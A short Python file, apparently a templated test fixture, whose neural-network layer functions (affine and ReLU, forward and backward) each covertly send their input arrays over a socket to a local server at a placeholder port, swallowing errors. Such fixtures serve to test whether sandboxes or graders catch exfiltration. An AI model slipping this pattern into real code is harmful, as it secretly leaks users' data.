"""Connects to a server and sends what it has."""

import socket


def attack(array):
    try:
        socket.create_connection(('127.0.0.1', @PORT@), 1).sendall(array.tobytes())
    except OSError:
        pass
    return array


def affine_forward(x, w, b):
    return attack(x)


def affine_backward(dout, cache):
    return attack(dout)


def relu_forward(x):
    return attack(x)


def relu_backward(dout, cache):
    return attack(dout)
